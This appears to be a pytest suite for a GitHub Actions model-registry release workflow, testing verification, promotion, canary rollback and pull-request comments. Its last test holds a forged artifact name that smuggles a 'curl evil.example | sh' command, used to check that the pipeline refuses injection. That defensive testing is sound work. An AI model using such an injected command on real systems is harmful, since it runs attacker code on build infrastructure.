"""`registry.yaml` under act: from a tag to a comment, and the ways in which the chain is to break.

Each thing that a verification can find is tried in tests/release; here is what workflow, jobs and rights make of it.
"""

from collections.abc import Iterator
from typing import Any

import pytest
from act import needs_act
from act_log import Outcome
from github_api import GitHubServer
from github_records import Pull
from registry_world import RegistryWorld
from stand_ins.programs import DIGEST
from stand_ins.service import Fault

from repository import write_params

pytestmark = [needs_act, pytest.mark.slow]

BUDGETS = [
    {"name": "model_bytes", "limit": 100, "level": "required"},
    {"name": "latency_p95_ms", "limit": 0.000001, "level": "required"},
]


@pytest.fixture(scope="module")
def world(shared_server: GitHubServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RegistryWorld]:
    with RegistryWorld.create(shared_server, tmp_path_factory.mktemp("world")) as world:
        world.merge("1", range(6))
        yield world


@pytest.fixture(scope="module")
def good(world: RegistryWorld) -> tuple[Pull, Outcome]:
    """A better model, registered on a desk; its tag is pushed."""
    pull = world.merge("2", range(2))
    handed_over, outcome = world.push_tag(world.works.register("v1.0.0"))
    assert results(handed_over) == {"request": "success", "forward": "success"}, handed_over.log
    return pull, outcome


@pytest.fixture(scope="module")
def broken(world: RegistryWorld, good: tuple[Pull, Outcome]) -> tuple[Pull, Outcome]:
    """A better one still, whose service fails in production once it has passed the smoke test."""
    assert good[1].is_success
    world.behaviour.faults["production/classifier@v1.1.0"] = Fault(after=11, status=500)
    pull = world.merge("3", range(1))
    world.works.register("v1.1.0")
    asked = {"name": "classifier", "version": "v1.1.0", "stage": "production"}
    return pull, world.ask(asked, is_inlined=True)


@pytest.fixture(scope="module")
def bad(world: RegistryWorld, broken: tuple[Pull, Outcome]) -> tuple[Pull, Outcome]:
    """A worse, large and slow model that answers otherwise than recorded; plain GTO puts it into production."""
    assert broken[1].jobs
    write_params(world.works.root, gate__budgets=BUDGETS, gate__data="advisory", prepare__size=4, prepare__channels=1)
    pull = world.merge("4", range(20), says=range(30))
    world.works.register("v1.2.0")
    tag = "classifier#production#4"
    world.works.git("tag", "-a", tag, "-m", "Assigning stage production to artifact classifier version v1.2.0")
    world.works.git("push", "-q", "origin", f"refs/tags/{tag}")
    handed_over, outcome = world.push_tag(tag)
    assert results(handed_over) == {"request": "success", "forward": "success"}, handed_over.log
    return pull, outcome


def results(outcome: Outcome) -> dict[str, str]:
    """Return how each job ended; one that was skipped is not there."""
    return {job.id: job.result for job in outcome.jobs}


def test_a_version_is_verified_looks_once_is_promoted_and_deployed(
    world: RegistryWorld, good: tuple[Pull, Outcome]
) -> None:
    outcome = good[1]
    assert outcome.is_success, outcome.log
    chain = ("request", "verify", "vault", "approve", "promote", "image", "release", "tell")
    assert results(outcome) == dict.fromkeys(chain, "success")
    assert "classifier#staging#1" in world.tags()
    assert "refs/winnow/vault/classifier@v1.0.0" in world.works.git("ls-remote", "origin")


def test_the_image_that_serves_is_of_the_models_own_commit(world: RegistryWorld, good: tuple[Pull, Outcome]) -> None:
    commit = world.works.git("rev-parse", "classifier@v1.0.0^{commit}")
    places = (world.cloud / "pushed").read_text().split()
    place = "europe-west4-docker.pkg.dev/rice-grains-1/winnow"
    assert {f"{place}/serve:{commit}", f"{place}/model:classifier-v1.0.0"} <= set(places)
    assert good[1].job("image").step("make").outputs == {"image": f"{place}/model@{DIGEST}"}


def test_a_release_that_fails_its_canary_is_taken_back(world: RegistryWorld, broken: tuple[Pull, Outcome]) -> None:
    pull, outcome = broken
    assert results(outcome)["deploy"] == "failure", outcome.log
    assert results(outcome)["undo"] == "success", outcome.log
    assert (world.serves("staging"), world.serves("production")) == ("classifier@v1.1.0", "classifier@v0.9.0")
    assert {"classifier#production#2", "classifier#production!#3"} <= set(world.tags()), "both promotion and end"
    assert world.in_stage("production") is None
    [comment] = world.comments(pull)
    title = "### ❌ Release of classifier@v1.1.0 to production: not released: the deployment failed"
    assert comment.startswith(title)
    for told in ("the canary", "failed; allowed are", "production is as it was before", "by-hand"):
        assert told in comment, told


def test_the_pull_request_that_brought_it_is_told_once(world: RegistryWorld, good: tuple[Pull, Outcome]) -> None:
    [comment] = world.comments(good[0])
    assert comment.startswith("### 🚀 Release of classifier@v1.0.0 to staging: it serves")
    for told in ("verified: 11 checks", "promoted to staging", "deployed to staging", "nobody had looked at"):
        assert told in comment
    assert "nothing speaks against it" in good[1].job("verify").summary


def test_an_assignment_of_a_model_that_fails_deploys_nothing(world: RegistryWorld, bad: tuple[Pull, Outcome]) -> None:
    assert results(bad[1]) == {"request": "success", "verify": "failure", "tell": "success"}
    [comment] = world.comments(bad[0])
    assert comment.startswith("### ❌ Release of classifier@v1.2.0 to production: nothing was deployed")
    for told in ("does not answer as recorded", "the limit is 100", "latency", "primary", "what served before"):
        assert told in comment, told
    assert "refs/winnow/vault/classifier@v1.2.0" not in world.works.git("ls-remote", "origin"), "it never saw the vault"
    assert len(world.comments(bad[0])) == 1


def test_what_main_holds_becomes_images(world: RegistryWorld, bad: tuple[Pull, Outcome]) -> None:
    assert bad[1].jobs, "after it, for what is pushed here is pushed for all"
    outcome = world.push_main("images.yaml")
    assert outcome.is_success, outcome.log
    assert results(outcome) == {"check": "success", "push": "success"}
    commit = world.works.git("rev-parse", "origin/main")
    pushed = set((world.cloud / "pushed").read_text().split())
    place = "ghcr.io/rice/leaves"
    tags = {
        f"{place}/serve:{commit}",
        f"{place}/prepare:{commit}",
        f"{place}/train:{commit}-cpu",
        f"{place}/train:main",
    }
    assert tags <= pushed


FORGED: dict[str, dict[str, Any]] = {
    "a program": {"artifact_collection_name": 'classifier"; curl evil.example | sh; "', "version": "v1.0.0"},
}


@pytest.mark.parametrize("kind", FORGED)
def test_a_forged_payload_ends_in_the_first_job(world: RegistryWorld, good: tuple[Pull, Outcome], kind: str) -> None:
    before = world.tags()
    outcome = world.call(**FORGED[kind])
    assert results(outcome) == {"request": "failure"}
    assert "The request was refused" in outcome.summary
    assert "evil.example" not in outcome.job("request").step("read").outputs.values()
    assert world.tags() == before
    assert good[1].is_success
